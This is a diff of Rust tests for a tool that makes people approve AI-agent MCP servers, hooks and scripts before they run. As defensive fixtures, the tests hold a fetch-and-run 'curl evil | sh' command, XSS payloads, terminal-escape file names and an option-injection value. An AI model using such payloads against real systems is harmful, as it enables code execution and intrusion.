@@ -666,3 +666,860 @@ fn status_is_verify_with_every_changed_file_the_hidden_artifacts_and_what_next()
     assert_eq!(out.code, 2);
     assert!(out.stdout.contains("\"exit\": 2"), "{}", out.stdout);
 }
+
+// ---------------------------------------------------------------------------
+// seal pin and seal init: what they approve, before the question
+// ---------------------------------------------------------------------------
+
+impl Repo {
+    fn executable(&self, rel: &str) -> &Repo {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(self.path(rel), std::fs::Permissions::from_mode(0o755)).unwrap();
+        self
+    }
+}
+
+/// The part of a pin's or init's stderr before its question, which must be
+/// there.
+fn before_question(stderr: &str) -> &str {
+    let at = stderr
+        .find("? [y/N] ")
+        .unwrap_or_else(|| panic!("no question: {stderr}"));
+    &stderr[..at]
+}
+
+/// The list of what the approval lets run, from its heading on.
+fn lets_run_list(stderr: &str) -> &str {
+    let text = before_question(stderr);
+    let at = text
+        .find("What this approval lets run")
+        .unwrap_or_else(|| panic!("no lets-run list: {text}"));
+    &text[at..]
+}
+
+#[test]
+fn init_shows_an_mcp_server_whose_command_is_evil_before_the_question() {
+    // The story of issue 27: one `y` approved this unseen.
+    let r = Repo::bare();
+    r.write(
+        ".mcp.json",
+        r#"{"mcpServers": {"helper": {"command": "evil", "args": ["--all"]}}}"#,
+    )
+    .write(".claude/skills/review/SKILL.md", "# Review\nBe careful.\n");
+    let out = r.seal(&["init"], "n\n");
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert_eq!(
+        lets_run_list(&out.stderr),
+        "What this approval lets run (1):\n  MCP server helper in .mcp.json: runs evil --all\n\n\
+         Apply these changes",
+    );
+    // Each bundle's files with their line counts, under its row.
+    assert!(
+        out.stderr.contains(
+            "  + ./.claude/skills/review  (1 files)\n    added     SKILL.md  (+2 lines)\n  + \
+             ./.mcp.json  (1 files)\n    added     .mcp.json  (+1 lines)\n"
+        ),
+        "{}",
+        out.stderr
+    );
+    assert!(!r.path("seal.json").exists());
+}
+
+#[test]
+fn pin_marks_what_the_version_approved_before_did_not_run() {
+    let r = Repo::bare();
+    r.git(&["init", "-q", "."]);
+    r.write(
+        ".mcp.json",
+        r#"{"mcpServers": {"docs": {"command": "npx", "args": ["docs-mcp"]}}}"#,
+    );
+    r.init();
+    r.commit("approve");
+    r.write(
+        ".mcp.json",
+        r#"{"mcpServers": {"docs": {"command": "npx", "args": ["docs-mcp"]},
+            "helper": {"command": "evil"}}}"#,
+    );
+    let out = r.seal(&["pin"], "n\n");
+    assert_eq!(out.code, 2);
+    assert!(
+        out.stderr.contains(
+            "  ~ modified  ./.mcp.json  (1 files)\n    modified  .mcp.json  (+2 -1 lines)\n"
+        ),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(
+        lets_run_list(&out.stderr),
+        "What this approval lets run (2, 1 not approved before):\n  new: MCP server helper in \
+         .mcp.json: runs evil\n  MCP server docs in .mcp.json: runs npx docs-mcp\n\nApply these \
+         pin changes"
+    );
+}
+
+/// One file of each MCP, hook, plugin and extension format of the surface
+/// table (by the row that makes it a surface), each naming a command (or
+/// being code) marked `mark-...`.
+const FORMATS: &[(&str, &str, &str)] = &[
+    (
+        ".claude/plugins/*",
+        ".claude/plugins/p/.claude-plugin/plugin.json",
+        r#"{"name": "p", "mcpServers": {"s": {"command": "mark-claude-plugin"}}}"#,
+    ),
+    (
+        ".claude/settings.json",
+        ".claude/settings.json",
+        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mark-claude-settings"}]}]}}"#,
+    ),
+    (
+        ".claude/settings.local.json",
+        ".claude/settings.local.json",
+        r#"{"statusLine": {"type": "command", "command": "mark-claude-local"}}"#,
+    ),
+    (
+        ".mcp.json",
+        ".mcp.json",
+        r#"{"mcpServers": {"s": {"command": "mark-mcp-json"}}}"#,
+    ),
+    (
+        ".codex/config.toml",
+        ".codex/config.toml",
+        "[mcp_servers.s]\ncommand = \"mark-codex-config\"\n",
+    ),
+    (
+        ".codex/hooks.json",
+        ".codex/hooks.json",
+        r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "mark-codex-hooks"}]}]}}"#,
+    ),
+    (
+        ".gemini/settings.json",
+        ".gemini/settings.json",
+        r#"{"mcpServers": {"s": {"command": "mark-gemini"}}}"#,
+    ),
+    (
+        ".github/hooks/*",
+        ".github/hooks/start.json",
+        r#"{"version": 1, "hooks": {"sessionStart": [{"type": "command", "bash": "mark-copilot-hooks"}]}}"#,
+    ),
+    (
+        ".github/mcp.json",
+        ".github/mcp.json",
+        r#"{"mcpServers": {"s": {"command": "mark-github-mcp"}}}"#,
+    ),
+    (
+        ".github/copilot/settings.json",
+        ".github/copilot/settings.json",
+        r#"{"mcpServers": {"s": {"command": "mark-copilot-settings"}}}"#,
+    ),
+    (
+        ".cursor/hooks.json",
+        ".cursor/hooks.json",
+        r#"{"version": 1, "hooks": {"afterFileEdit": [{"command": "mark-cursor-hooks"}]}}"#,
+    ),
+    (
+        ".cursor/mcp.json",
+        ".cursor/mcp.json",
+        r#"{"mcpServers": {"s": {"url": "https://mark-cursor-mcp.example"}}}"#,
+    ),
+    (
+        ".opencode/plugins",
+        ".opencode/plugins/mark-opencode-plugin.ts",
+        "export const P = async () => ({})\n",
+    ),
+    (
+        ".opencode/tools",
+        ".opencode/tools/mark-opencode-tool.ts",
+        "export default {}\n",
+    ),
+    (
+        "opencode.json",
+        "opencode.json",
+        r#"{"mcp": {"s": {"type": "local", "command": ["mark-opencode-json"]}}}"#,
+    ),
+    (
+        "opencode.jsonc",
+        "opencode.jsonc",
+        "{\n  // JSONC\n  \"plugin\": [\"mark-jsonc-opencode\"],\n}\n",
+    ),
+    (
+        ".windsurf/hooks.json",
+        ".windsurf/hooks.json",
+        r#"{"hooks": {"pre_run_command": [{"command": "mark-windsurf"}]}}"#,
+    ),
+    (
+        ".continue/mcpServers",
+        ".continue/mcpServers/db.yaml",
+        "name: db\nmcpServers:\n  - name: db\n    command: mark-continue\n",
+    ),
+    (
+        ".amp/settings.json",
+        ".amp/settings.json",
+        r#"{"amp.mcpServers": {"s": {"command": "mark-amp"}}}"#,
+    ),
+    (
+        ".qwen/settings.json",
+        ".qwen/settings.json",
+        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mark-qwen"}]}]}}"#,
+    ),
+    (
+        ".roo/mcp.json",
+        ".roo/mcp.json",
+        r#"{"mcpServers": {"s": {"command": "mark-roo"}}}"#,
+    ),
+    (
+        ".kilocode/mcp.json",
+        ".kilocode/mcp.json",
+        r#"{"mcpServers": {"s": {"command": "mark-kilo"}}}"#,
+    ),
+    (
+        ".vscode/mcp.json",
+        ".vscode/mcp.json",
+        r#"{"servers": {"s": {"type": "stdio", "command": "mark-vscode"}}}"#,
+    ),
+    (
+        ".github/extensions/*",
+        ".github/extensions/mark-copilot-extension/extension.mjs",
+        "export default {}\n",
+    ),
+    (
+        ".github/plugin",
+        ".github/plugin/plugin.json",
+        r#"{"name": "mark-github-plugin"}"#,
+    ),
+    (
+        ".claude-plugin",
+        ".claude-plugin/marketplace.json",
+        r#"{"name": "m", "plugins": [{"name": "x", "source": "mark-claude-marketplace"}]}"#,
+    ),
+    (
+        ".cursor-plugin",
+        ".cursor-plugin/plugin.json",
+        r#"{"name": "p", "hooks": {"stop": [{"command": "mark-cursor-plugin"}]}}"#,
+    ),
+    (
+        ".codex-plugin",
+        ".codex-plugin/plugin.json",
+        r#"{"name": "p", "mcpServers": {"s": {"command": "mark-codex-plugin"}}}"#,
+    ),
+];
+
+/// The marker each fixture's entry carries.
+fn marker(fixture: &(&str, &str, &str)) -> String {
+    let (_, path, text) = fixture;
+    let found = |s: &str| {
+        s.find("mark-").map(|at| {
+            s[at..]
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
+                .collect::<String>()
+        })
+    };
+    found(text)
+        .or_else(|| found(path))
+        .unwrap_or_else(|| panic!("no marker in {path}"))
+}
+
+#[test]
+fn init_and_pin_list_the_commands_of_every_mcp_hook_and_plugin_format_of_the_surface_table() {
+    // Every such row of the table has a fixture: a new row fails here.
+    let words = [
+        "mcp",
+        "hooks",
+        "settings",
+        "plugin",
+        "config.toml",
+        "opencode.json",
+        "tools",
+        "extensions",
+    ];
+    for row in seal_gate::surfaces::PROJECT_ROWS {
+        if words.iter().any(|w| row.pattern.contains(w)) {
+            assert!(
+                FORMATS
+                    .iter()
+                    .any(|(pattern, _, _)| *pattern == row.pattern),
+                "no fixture for the surface row {}",
+                row.pattern
+            );
+        }
+    }
+    let r = Repo::bare();
+    r.git(&["init", "-q", "."]);
+    for (_, path, text) in FORMATS {
+        r.write(path, text);
+    }
+    // Scripts: a shebang, an executable bit.
+    r.write(".claude/skills/s/SKILL.md", "Run the scripts.\n")
+        .write(".claude/skills/s/go", "#!/usr/bin/env mark-shebang\n")
+        .write(".claude/skills/s/mark-executable", "\x7fELF")
+        .executable(".claude/skills/s/mark-executable");
+    let mut markers: Vec<String> = FORMATS.iter().map(marker).collect();
+    markers.extend(["mark-shebang".to_string(), "mark-executable".to_string()]);
+
+    // init: on stderr before the question, and in the --json plan.
+    let out = r.seal(&["init"], "n\n");
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    let list = lets_run_list(&out.stderr);
+    for m in &markers {
+        let lines = list.lines().filter(|l| l.contains(m.as_str())).count();
+        assert_eq!(lines, 1, "{m} in init's list:\n{list}");
+    }
+    let plan = r.seal(&["init", "--dry-run", "--json"], "");
+    assert_eq!(plan.code, 0, "{}", plan.stderr);
+    assert!(!plan.stderr.contains("[y/N]"), "{}", plan.stderr);
+    let doc: serde_json::Value = serde_json::from_str(&plan.stdout).unwrap();
+    assert_eq!(doc["command"], "init");
+    assert_eq!(doc["dryRun"], true);
+    let runs: Vec<String> = doc["bundles"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|b| b["letsRun"].as_array().unwrap().clone())
+        .map(|r| r.to_string())
+        .collect();
+    for m in &markers {
+        assert!(
+            runs.iter().any(|r| r.contains(m.as_str())),
+            "{m} in the plan: {runs:#?}"
+        );
+    }
+    assert!(!r.path("seal.json").exists(), "a dry run writes nothing");
+
+    // pin: after every file changes (its marker with a `-v2`), what it
+    // lets run now, the new entries marked against the approved bytes in
+    // history.
+    r.init();
+    r.commit("approve");
+    for (_, path, text) in FORMATS {
+        let changed = text.replacen("mark-", "mark-v2-", 1);
+        let changed = if changed == *text {
+            format!("{text}\n// changed\n")
+        } else {
+            changed
+        };
+        r.write(path, changed);
+    }
+    r.write(".claude/skills/s/go", "#!/usr/bin/env mark-v2-shebang\n");
+    let out = r.seal(&["pin"], "n\n");
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    let list = lets_run_list(&out.stderr);
+    for fixture in FORMATS {
+        let m = marker(fixture);
+        let line = list
+            .lines()
+            .find(|l| l.contains(&m.replacen("mark-", "mark-v2-", 1)) || l.contains(&m))
+            .unwrap_or_else(|| panic!("{m} in pin's list:\n{list}"));
+        if fixture.2.contains("mark-") {
+            // Its command changed: not approved before.
+            assert!(line.starts_with("  new: "), "{line}");
+        } else {
+            // Named by its path, which did not change.
+            assert!(!line.starts_with("  new: "), "{line}");
+        }
+    }
+    assert!(
+        list.contains("  new: script in .claude/skills/s/go: loads #!/usr/bin/env mark-v2-shebang"),
+        "{list}"
+    );
+    // The executable did not change: listed, not new.
+    assert!(
+        list.contains("  script in .claude/skills/s/mark-executable: loads an executable file\n"),
+        "{list}"
+    );
+}
+
+#[test]
+fn pin_summarises_each_changed_file_against_history_and_diff_shows_the_diffs() {
+    let (r, approved) = history_repo();
+    let short = &approved[..12];
+    r.write(".claude/skills/rev/SKILL.md", "line1\nLINE2\nline3\n")
+        .write(".claude/skills/rev/logo.png", b"\x89PNG\0\x02tampered!")
+        .write(".claude/skills/rev/run.sh", "#!/bin/sh\necho hi\n")
+        .remove(".claude/skills/rev/gone.md");
+    std::fs::rename(
+        r.path(".claude/skills/rev/old-name.md"),
+        r.path(".claude/skills/rev/new-name.md"),
+    )
+    .unwrap();
+    let out = r.seal(&["pin"], "n\n");
+    assert_eq!(out.code, 2);
+    assert_eq!(
+        before_question(&out.stderr),
+        "  ~ modified  ./.claude/skills/rev  (4 files)\n\
+         \x20   modified  SKILL.md  (+1 -1 lines)\n\
+         \x20   removed   gone.md  (-2 lines)\n\
+         \x20   modified  logo.png  (binary, 14 -> 15 bytes)\n\
+         \x20   renamed   old-name.md -> new-name.md  (content unchanged)\n\
+         \x20   added     run.sh  (+2 lines)\n\
+         \n1 unchanged\n\n\
+         What this approval lets run (1, 1 not approved before):\n\
+         \x20 new: script in .claude/skills/rev/run.sh: loads #!/bin/sh\n\n\
+         Apply these pin changes"
+    );
+    // --diff: the diffs, from the approved bytes in history, as seal diff
+    // shows them.
+    let out = r.seal(&["pin", "--diff"], "n\n");
+    assert!(
+        out.stderr.contains(
+            "    modified  SKILL.md  (+1 -1 lines)\n--- a/.claude/skills/rev/SKILL.md\n+++ \
+             b/.claude/skills/rev/SKILL.md\n@@ -1,3 +1,3 @@\n line1\n-line2\n+LINE2\n line3\n    \
+             removed   gone.md  (-2 lines)\n--- a/.claude/skills/rev/gone.md\n+++ /dev/null\n"
+        ),
+        "{}",
+        out.stderr
+    );
+    let diff = r.seal(&["diff"], "");
+    assert!(
+        diff.stdout.contains(&format!(
+            "  modified  SKILL.md  (+1 -1 lines; approved bytes from commit {short})\n--- \
+             a/.claude/skills/rev/SKILL.md\n+++ b/.claude/skills/rev/SKILL.md\n@@ -1,3 +1,3 @@\n \
+             line1\n-line2\n+LINE2\n line3\n"
+        )),
+        "{}",
+        diff.stdout
+    );
+    // The same plan as JSON, with the commit of the approved bytes.
+    let out = r.seal(&["pin", "--json", "--dry-run", "--diff"], "");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(doc["command"], "pin");
+    assert_eq!(doc["unchanged"], 1);
+    assert_eq!(doc["history"]["source"], "git");
+    let bundle = &doc["bundles"][0];
+    assert_eq!(bundle["key"], "./.claude/skills/rev");
+    assert_eq!(bundle["change"], "modified");
+    assert_eq!(bundle["fileCount"], 4);
+    let skill = bundle["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "SKILL.md")
+        .unwrap();
+    assert_eq!(skill["approved"]["commit"], approved.as_str());
+    assert_eq!(
+        (skill["linesAdded"].clone(), skill["linesRemoved"].clone()),
+        (1.into(), 1.into())
+    );
+    assert!(skill["diff"].as_str().unwrap().contains("-line2\n+LINE2\n"));
+    assert_eq!(bundle["letsRun"][0]["kind"], "script");
+    assert_eq!(bundle["letsRun"][0]["new"], true);
+    // Without --diff, the counts only.
+    let out = r.seal(&["pin", "--json", "--dry-run"], "");
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    assert!(doc["bundles"][0]["files"][0].get("diff").is_none(), "{doc}");
+}
+
+#[test]
+fn a_bundle_of_many_files_lists_the_first_twenty_and_v_lists_them_all() {
+    let r = Repo::bare();
+    for i in 0..25 {
+        r.write(&format!(".claude/skills/big/f{i:02}.md"), "x\n");
+    }
+    let out = r.seal(&["init"], "n\n");
+    assert!(
+        out.stderr.contains(
+            "    added     f19.md  (+1 lines)\n    ... and 5 more files: -v lists them all\n"
+        ),
+        "{}",
+        out.stderr
+    );
+    assert!(!out.stderr.contains("f20.md"), "{}", out.stderr);
+    let out = r.seal(&["init", "-v"], "n\n");
+    assert!(
+        out.stderr.contains("    added     f24.md  (+1 lines)\n"),
+        "{}",
+        out.stderr
+    );
+    assert!(!out.stderr.contains("more files"), "{}", out.stderr);
+}
+
+#[test]
+fn json_prints_the_plan_before_the_question_and_the_answer_still_decides() {
+    let r = Repo::bare();
+    r.write(".mcp.json", r#"{"mcpServers": {"s": {"command": "srv"}}}"#);
+    // Declined: the plan is the one document on stdout; exit 2, nothing
+    // written.
+    let out = r.seal(&["init", "--json"], "n\n");
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout)
+        .unwrap_or_else(|e| panic!("one document ({e}): {}", out.stdout));
+    assert_eq!(doc["dryRun"], false);
+    assert_eq!(doc["bundles"][0]["letsRun"][0]["target"]["value"], "srv");
+    assert!(
+        out.stderr.ends_with("[y/N] seal: init aborted\n"),
+        "{}",
+        out.stderr
+    );
+    assert!(!r.path("seal.json").exists());
+    // Accepted: written.
+    let out = r.seal(&["init", "--json"], "y\n");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(r.path("seal.json").exists());
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(&out.stdout).unwrap()["command"],
+        "init"
+    );
+    // Nothing to pin: the document says so, nothing is asked.
+    let out = r.seal(&["pin", "--json"], "");
+    assert_eq!(out.code, 0);
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(doc["bundles"], serde_json::json!([]));
+    assert_eq!(doc["unchanged"], 1);
+    assert!(out.stderr.ends_with("No changes\n"), "{}", out.stderr);
+    // A dry run reads no answer and writes nothing, whatever stdin holds.
+    r.write(
+        ".mcp.json",
+        r#"{"mcpServers": {"s": {"command": "other"}}}"#,
+    );
+    let before = std::fs::read(r.path("seal.json")).unwrap();
+    let out = r.seal(&["pin", "--dry-run"], "y\n");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(out.stdout, "");
+    assert!(!out.stderr.contains("[y/N]"), "{}", out.stderr);
+    assert!(
+        out.stderr
+            .ends_with("runs other\n\nDry run: nothing was asked and nothing written\n"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(std::fs::read(r.path("seal.json")).unwrap(), before);
+}
+
+#[test]
+fn pin_and_init_show_hostile_names_and_contents_escaped() {
+    let (r, _) = history_repo();
+    let name = "evil\u{1b}[2J\u{202e}gnp.sh";
+    r.write(
+        &format!(".claude/skills/rev/{name}"),
+        "#!/bin/sh \u{1b}]0;pwned\u{7}\nok\n",
+    )
+    .write(
+        ".claude/skills/rev/SKILL.md",
+        "line1\n\u{9b}31m\u{202e}\nline3\n",
+    )
+    .write(
+        ".mcp.json",
+        "{\"mcpServers\": {\"x\\u001b[2J\": {\"command\": \"evil\\u202e\", \"args\": [\"\\n\"]}}}",
+    );
+    let check = |out: &Out| {
+        for raw in ['\u{1b}', '\u{202e}', '\u{9b}', '\u{7}'] {
+            assert!(
+                !out.stderr.contains(raw),
+                "{raw:?} reached the terminal: {}",
+                out.stderr
+            );
+        }
+    };
+    for args in [&["pin"][..], &["pin", "--diff"], &["pin", "-v", "--diff"]] {
+        let out = r.seal(args, "n\n");
+        assert_eq!(out.code, 2, "{}", out.stderr);
+        check(&out);
+        assert!(
+            out.stderr
+                .contains("    added     evil\\u{001b}[2J\\u{202e}gnp.sh  (+2 lines)\n"),
+            "{}",
+            out.stderr
+        );
+        assert!(
+            out.stderr
+                .contains("  MCP server x\\u{001b}[2J in .mcp.json: runs 'evil\\u{202e}' '\\n'\n"),
+            "{}",
+            out.stderr
+        );
+        assert!(
+            out.stderr.contains(
+                "  new: script in .claude/skills/rev/evil\\u{001b}[2J\\u{202e}gnp.sh: loads \
+                 #!/bin/sh \\u{001b}]0;pwned\\u{0007}\n"
+            ),
+            "{}",
+            out.stderr
+        );
+    }
+    let out = r.seal(&["pin", "--diff"], "n\n");
+    assert!(
+        out.stderr.contains("+\\u{009b}31m\\u{202e}\n"),
+        "{}",
+        out.stderr
+    );
+    // The JSON plan carries them exactly.
+    let out = r.seal(&["pin", "--json", "--dry-run"], "");
+    check(&out);
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    let text = doc.to_string();
+    assert!(text.contains("evil\\u001b[2J\u{202e}gnp.sh"), "{text}");
+    // init too.
+    r.remove("seal.json");
+    let out = r.seal(&["init"], "n\n");
+    check(&out);
+    assert!(
+        out.stderr.contains("MCP server x\\u{001b}[2J in .mcp.json"),
+        "{}",
+        out.stderr
+    );
+}
+
+// ---------------------------------------------------------------------------
+// seal diff --base: what a change approves (a pull request's review)
+// ---------------------------------------------------------------------------
+
+/// `history_repo`, then a change that re-pins a modified skill, approves a
+/// new `.mcp.json`, withdraws a removed bundle and turns the policy to
+/// warn, committed: (repo, the approving commit, the change's commit).
+fn approval_change() -> (Repo, String, String) {
+    let (r, approved) = history_repo();
+    r.write(".claude/skills/rev/SKILL.md", "line1\nLINE2\nline3\n")
+        .write(
+            ".mcp.json",
+            r#"{"mcpServers": {"helper": {"command": "evil", "args": ["--all"]}}}"#,
+        )
+        .remove(".claude/skills/done");
+    let out = r.seal(&["pin", "--prune"], "y\n");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let lock = std::fs::read_to_string(r.path("seal.json")).unwrap();
+    assert!(lock.contains("\"policy\": \"block\""), "{lock}");
+    r.write(
+        "seal.json",
+        lock.replace("\"policy\": \"block\"", "\"policy\": \"warn\""),
+    );
+    let change = r.commit("the change");
+    (r, approved, change)
+}
+
+#[test]
+fn diff_base_shows_what_the_change_approves_and_what_that_lets_run() {
+    let (r, approved, _) = approval_change();
+    let short = &approved[..12];
+    let out = r.seal(&["diff", "--base", &approved], "");
+    assert_eq!(out.code, 0, "verified now: {}", out.stderr);
+    assert_eq!(
+        out.stdout,
+        format!(
+            "Approval changes against {approved} (commit {short}):\n\
+             \x20 policy: block -> warn\n\
+             \x20 + discovery pattern .mcp.json\n\
+             \x20 - removed   ./.claude/skills/done\n\
+             \x20 ~ modified  ./.claude/skills/rev  (4 files)\n\
+             \x20   modified  SKILL.md  (+1 -1 lines)\n\
+             --- a/.claude/skills/rev/SKILL.md\n\
+             +++ b/.claude/skills/rev/SKILL.md\n\
+             @@ -1,3 +1,3 @@\n\
+             \x20line1\n\
+             -line2\n\
+             +LINE2\n\
+             \x20line3\n\
+             \x20 + new       ./.mcp.json  (1 files)\n\
+             \x20   added     .mcp.json  (+1 lines)\n\
+             --- /dev/null\n\
+             +++ b/.mcp.json\n\
+             @@ -0,0 +1 @@\n\
+             +{{\"mcpServers\": {{\"helper\": {{\"command\": \"evil\", \"args\": [\"--all\"]}}}}}}\n\
+             \\ No newline at end of file\n\
+             \n\
+             What this approval lets run (1):\n\
+             \x20 MCP server helper in .mcp.json: runs evil --all\n\n"
+        )
+    );
+    // The same as JSON, and as Markdown.
+    let (_, doc) = r.json(&["diff", "--base", &approved, "--json"]);
+    let a = &doc["approval"];
+    assert_eq!(a["base"]["commit"], approved.as_str());
+    assert_eq!(a["base"]["lockfile"], "present");
+    assert_eq!(
+        a["policy"],
+        serde_json::json!({"from": "block", "to": "warn"})
+    );
+    assert_eq!(a["patternsAdded"], serde_json::json!([".mcp.json"]));
+    let changes: Vec<(&str, &str)> = a["bundles"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|b| (b["key"].as_str().unwrap(), b["change"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        changes,
+        [
+            ("./.claude/skills/done", "removed"),
+            ("./.claude/skills/rev", "modified"),
+            ("./.mcp.json", "new")
+        ]
+    );
+    let md = r.seal(&["diff", "--base", &approved, "--format", "markdown"], "");
+    assert_eq!(md.code, 0, "{}", md.stderr);
+    assert_eq!(
+        md.stdout,
+        format!(
+            "### seal: what this change approves\n\n\
+             Against `seal.json` at `{approved}` (commit `{short}`).\n\n\
+             **Policy:** `block` → `warn`\n\n\
+             **Discovery patterns added:** `.mcp.json`\n\n\
+             #### Approval withdrawn: `./.claude/skills/done`\n\n\
+             #### Approval changed: `./.claude/skills/rev` (4 files)\n\n\
+             - modified `SKILL.md` (+1 -1 lines)\n\n\
+             Lets run: no MCP server, hook, plugin, command or script was found.\n\n\
+             #### New approval: `./.mcp.json` (1 files)\n\n\
+             - added `.mcp.json` (+1 lines)\n\n\
+             **Lets run (1):**\n\n\
+             - **MCP server** `helper` in `.mcp.json`: runs `evil --all`\n\n\
+             **Result:** Verified (warn mode)\n"
+        )
+    );
+}
+
+#[test]
+fn diff_base_against_a_base_without_seal_json_or_a_revision_that_is_not_there() {
+    let r = Repo::bare();
+    r.git(&["init", "-q", "."]);
+    r.write("README.md", "hello\n");
+    let before = r.commit("before seal");
+    r.write(".claude/skills/a/SKILL.md", "a\n");
+    r.init();
+    r.commit("seal");
+    let (code, doc) = r.json(&["diff", "--base", &before, "--json"]);
+    assert_eq!(code, 0);
+    assert_eq!(doc["approval"]["base"]["lockfile"], "missing");
+    assert_eq!(
+        doc["approval"]["policy"],
+        serde_json::json!({"to": "block"})
+    );
+    assert_eq!(doc["approval"]["bundles"][0]["change"], "new");
+    let out = r.seal(&["diff", "--base", &before], "");
+    assert!(
+        out.stdout
+            .contains("  seal.json is new: the base has none\n  policy: none -> block\n"),
+        "{}",
+        out.stdout
+    );
+    // The same seal.json: nothing changes.
+    let out = r.seal(&["diff", "--base", "HEAD"], "");
+    assert!(
+        out.stdout
+            .ends_with(": none (seal.json approves what it approved there)\n\n"),
+        "{}",
+        out.stdout
+    );
+    // Not a commit here, or an option in disguise: exit 2, said why.
+    let out = r.seal(
+        &["diff", "--base", "0123456789012345678901234567890123456789"],
+        "",
+    );
+    assert_eq!(out.code, 2);
+    assert!(out.stderr.contains("no such commit"), "{}", out.stderr);
+    let out = r.seal(&["diff", "--base=--output=/tmp/x"], "");
+    assert_eq!(out.code, 2);
+    assert!(out.stderr.contains("not a revision"), "{}", out.stderr);
+    let md = r.seal(&["diff", "--base", "nope", "--format", "markdown"], "");
+    assert_eq!(md.code, 2);
+    assert!(
+        md.stdout.starts_with("### seal failed (exit 2)\n\n`"),
+        "{}",
+        md.stdout
+    );
+    // Without git: --base cannot be.
+    r.remove(".git");
+    let out = r.seal(&["diff", "--base", "HEAD"], "");
+    assert_eq!(out.code, 2);
+    assert!(
+        out.stderr
+            .contains("--base needs the project's git history"),
+        "{}",
+        out.stderr
+    );
+}
+
+/// A Markdown line with its code spans taken out (CommonMark's rule: a run
+/// of backticks opens a span closed by the next run of the same length);
+/// an unclosed run stays, as Markdown shows it.
+fn outside_code_spans(line: &str) -> String {
+    let chars: Vec<char> = line.chars().collect();
+    let mut out = String::new();
+    let mut i = 0;
+    while i < chars.len() {
+        if chars[i] != '`' {
+            out.push(chars[i]);
+            i += 1;
+            continue;
+        }
+        let run = chars[i..].iter().take_while(|c| **c == '`').count();
+        let mut j = i + run;
+        let mut closed = None;
+        while j < chars.len() {
+            if chars[j] == '`' {
+                let other = chars[j..].iter().take_while(|c| **c == '`').count();
+                if other == run {
+                    closed = Some(j + other);
+                    break;
+                }
+                j += other;
+            } else {
+                j += 1;
+            }
+        }
+        match closed {
+            Some(end) => i = end,
+            None => {
+                out.extend(&chars[i..i + run]);
+                i += run;
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn the_markdown_summary_keeps_hostile_names_and_commands_in_their_code_spans() {
+    let r = Repo::bare();
+    r.git(&["init", "-q", "."]);
+    r.write(".claude/skills/ok/SKILL.md", "ok\n");
+    r.init();
+    let base = r.commit("base");
+    let names = [
+        "a`b``c",
+        "x<img src=x onerror=alert(1)>",
+        "*bold* [link](evil.example) | cell",
+        " `edge` ",
+    ];
+    for name in names {
+        r.write(&format!(".claude/skills/{name}/SKILL.md"), "hi\n");
+    }
+    r.write(
+        ".mcp.json",
+        "{\"mcpServers\": {\"x\\n### forged heading\": {\"command\": \"``; curl evil | sh; ``\"}, \
+         \"y\": {\"url\": \"<script>alert(1)</script>\"}}}",
+    );
+    let out = r.seal(&["pin"], "y\n");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    r.commit("change");
+    let md = r.seal(&["diff", "--base", &base, "--format", "markdown"], "");
+    assert_eq!(md.code, 0, "{}", md.stderr);
+    for line in md.stdout.lines() {
+        let rest = outside_code_spans(line);
+        assert!(
+            !rest.contains('`') && !rest.contains('<') && !rest.contains("forged"),
+            "outside a code span in {line:?}: {rest:?}"
+        );
+        assert!(
+            !line.starts_with("#") || line.starts_with("### seal") || line.starts_with("#### "),
+            "{line:?}"
+        );
+    }
+    for name in names {
+        let key = format!("./.claude/skills/{name}");
+        let span = md
+            .stdout
+            .lines()
+            .find(|l| l.starts_with("#### New approval: ") && l.contains(&key))
+            .unwrap_or_else(|| panic!("{key} in:\n{}", md.stdout));
+        assert!(span.ends_with("(1 files)"), "{span}");
+    }
+    assert!(
+        md.stdout.contains("runs ``` ``; curl evil | sh; `` ```"),
+        "{}",
+        md.stdout
+    );
+    assert!(
+        md.stdout
+            .contains("- **MCP server** `x\\n### forged heading` in `.mcp.json`"),
+        "{}",
+        md.stdout
+    );
+}
